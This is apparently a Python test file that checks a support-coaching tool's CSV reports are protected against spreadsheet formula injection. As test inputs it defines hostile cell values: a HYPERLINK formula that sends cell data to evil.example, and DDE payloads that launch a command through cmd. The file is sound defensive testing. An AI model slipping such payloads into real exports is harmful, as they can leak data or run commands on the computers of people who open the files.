"""CSV injection: a text cell a spreadsheet would read as a formula (`=`, `+`, `-`, `@`, a tab
or a carriage return first) is written with a leading `'`, in every CSV the project writes; a
number, negative or not, stays a number. The pilot report is the one CSV: hostile ids and names
from the help desk and the definitions (queue, channel, criterion, policy, article, QA run; the
agent's too, on a conversation of the report) reach it through the store, and the `report`
command writes it to a file."""

from __future__ import annotations

import asyncio
import csv
import io

from domain.sampling import Composition, DrawRequest, SampleDraw
from reporting.pilot import gather_pilot
from reporting.render import render_report
from service.cli import main as cli_main
from store.measurements import append_measurement
from store.models import AssessmentRow, CriterionResultRow, TicketRow
from store.sampling import save_draw
from tests.test_metrics import DAY, T0

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
AGENT = '=HYPERLINK("https://evil.example/?"&A1,"open")'
QUEUE = "@SUM(1+1)*cmd|' /C calc'!A0"
CRITERION = "-2+3+cmd|' /C calc'!A0"
POLICY = "+1+1"
ARTICLE = "\t=1+1"
CHANNEL = "\r=2+2"
RUN = "=1+1"
HOSTILE = (AGENT, QUEUE, CRITERION, POLICY, ARTICLE, CHANNEL, RUN)


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def assert_no_formula(text: str) -> list[str]:
    """Every cell that could start a formula is a number; returns the text cells."""
    cells = [cell for row in _cells(text) for cell in row]
    formulas = [c for c in cells if c.startswith(FORMULA_STARTS) and not _number(c)]
    assert not formulas, formulas
    return cells


def test_a_text_cell_that_would_start_a_formula_gets_a_quote_and_numbers_stay_numbers():
    from reporting.csv_safe import csv_line

    row = [*HOSTILE, "\uff1dSUM(1)", "a-1", "", -1, -0.25, 0, 3.5, "kb-101", "2026-03-02"]
    (parsed,) = _cells(csv_line(row))
    assert parsed[: len(HOSTILE)] == [f"'{h}" for h in HOSTILE]
    assert parsed[len(HOSTILE) :] == [
        "'\uff1dSUM(1)",
        "a-1",
        "",
        "-1",
        "-0.25",
        "0",
        "3.5",
        "kb-101",
        "2026-03-02",
    ]
    assert _cells(csv_line(["x\r=1+1", "y\n@z"])) == [["x\r=1+1", "y\n@z"]], "one row"


async def _hostile_history(sessions) -> None:
    at = T0 + DAY
    async with sessions() as session, session.begin():
        ticket = TicketRow(
            source="generic",
            external_id="t-hostile",
            agent_id=AGENT,
            queue=QUEUE,
            snapshot={"status": "solved"},
            last_event_at=at,
            updated_at=at,
        )
        session.add(ticket)
        await session.flush()
        row = AssessmentRow(
            workflow_id="coaching/low-csat/generic/t-hostile",
            opportunity_id="low-csat",
            opportunity_version=1,
            rubric_id="support-core",
            rubric_version=1,
            ticket_id=ticket.id,
            source="generic",
            ticket_external_id=ticket.external_id,
            event_id="e-hostile",
            event_type="csat.received",
            agent_id=AGENT,
            queue=QUEUE,
            status="coaching",
            confidence=0.9,
            priority=0,
            flags=[],
            summary="",
            occurred_at=at,
            created_at=at,
            updated_at=at,
        )
        session.add(row)
        await session.flush()
        session.add(
            CriterionResultRow(
                assessment_id=row.id,
                position=0,
                criterion_id=CRITERION,
                name=CRITERION,
                status="failed",
                score=0.0,
                max_score=1.0,
                weight=1.0,
                critical=False,
                cause="agent_behavior",
                confidence=0.9,
                explanation="",
                evidence=[],
            )
        )
        events = [
            ("assessment_drafted", {"event_type": "csat.received"}),
            ("process_issue", {"cause": "policy", "ref": POLICY, "summary": ""}),
            ("process_issue", {"cause": "documentation", "ref": ARTICLE, "summary": ""}),
        ]
        for n, (kind, data) in enumerate(events):
            assert await append_measurement(session, kind, at, f"hostile-{n}", row, data)
        composition = Composition(
            total=1, bands={"low": 1}, channels={CHANNEL: 1}, agents={AGENT: 1}
        )
        await save_draw(
            session,
            DrawRequest(
                run_id=RUN,
                opportunity_id="weekly-qa-sample",
                per_agent=1,
                window_start=T0,
                window_end=T0 + 7 * DAY,
                seed=RUN,
            ),
            SampleDraw(
                seed=RUN, per_agent=1, sample=composition, population=composition, eligible=1
            ),
        )


async def test_hostile_ids_and_names_reach_the_pilot_csv_as_text(sessions):
    await _hostile_history(sessions)
    async with sessions() as session:
        report = await gather_pilot(session, since=T0, queue=QUEUE, now=T0 + 10 * DAY)
    assert report.metrics.policy_gaps == {POLICY: 1}
    assert report.metrics.documentation_gaps == {ARTICLE: 1}
    assert report.themes == {CRITERION: 1}
    assert report.qa_sample is not None and report.qa_sample.run_id == RUN
    text = render_report(report, "csv")
    cells = assert_no_formula(text)
    for hostile in (QUEUE, CRITERION, POLICY, ARTICLE, CHANNEL, RUN):
        assert f"'{hostile}" in cells, hostile
    rows = {(r["section"], r["metric"], r["key"]): r for r in csv.DictReader(io.StringIO(text))}
    assert rows[("pilot", "scope", f"'{QUEUE}")]["value"] == "queue"
    assert rows[("gaps", "policy", f"'{POLICY}")]["value"] == "1"
    assert rows[("qa_sample", "run", "")]["value"] == f"'{RUN}"
    assert rows[("qa_sample", "sample_channel", f"'{CHANNEL}")]["of"] == "1"


async def test_the_report_command_writes_a_csv_without_formulas(
    sessions, database_url, tmp_path, monkeypatch
):
    await _hostile_history(sessions)
    monkeypatch.setenv("COACHFLOW_DATABASE_URL", database_url)
    monkeypatch.setenv("COACHFLOW_DATA_DIR", str(tmp_path / "data"))
    out = tmp_path / "pilot.csv"
    argv = ["report", "--since", f"{T0:%Y-%m-%d}", "--queue", QUEUE, "--format", "csv"]
    code = await asyncio.to_thread(cli_main, [*argv, "--out", str(out)])
    assert code == 0
    with out.open(encoding="utf-8", newline="") as written:
        cells = assert_no_formula(written.read())
    assert {f"'{h}" for h in (QUEUE, CRITERION, POLICY, ARTICLE, CHANNEL, RUN)} <= set(cells)
